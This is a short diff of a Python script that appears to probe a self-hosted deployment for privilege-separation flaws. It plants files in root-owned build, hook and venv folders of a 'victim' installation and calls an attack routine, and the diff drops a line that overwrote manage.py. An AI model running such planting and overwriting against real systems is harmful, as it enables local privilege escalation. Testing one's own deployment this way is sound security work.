@@ -16,7 +16,6 @@ import sys
 import time
 
 ROOT, VICTIM, MEDIA = "/srv/probe", "/var/lib/selfhost-victim", "/srv/probe/shared/media"
-SELF = os.path.abspath(__file__)
 # Folders of root's or of another account, where a name of ours would be followed, run, read or waited for.
 FOLDERS = [
     ROOT, *(f"{ROOT}/{name}" for name in ("build", "build/repository.git", "build/repository.git/hooks", "home", "releases", "shared", "static", "venvs")),
@@ -182,7 +181,6 @@ def main(role):
                 os.dup2(os.open(os.devnull, os.O_RDWR), descriptor)
             for _second in range(600):
                 plant(f"{ROOT}/build", "planted")
-                overwrite(f"{os.path.dirname(SELF)}/manage.py")
                 time.sleep(1)
         attack(role, own, [])
         for name in ("app.sock", "environment", "files.json", "migrations.txt", "release.json", "static", "venv"):
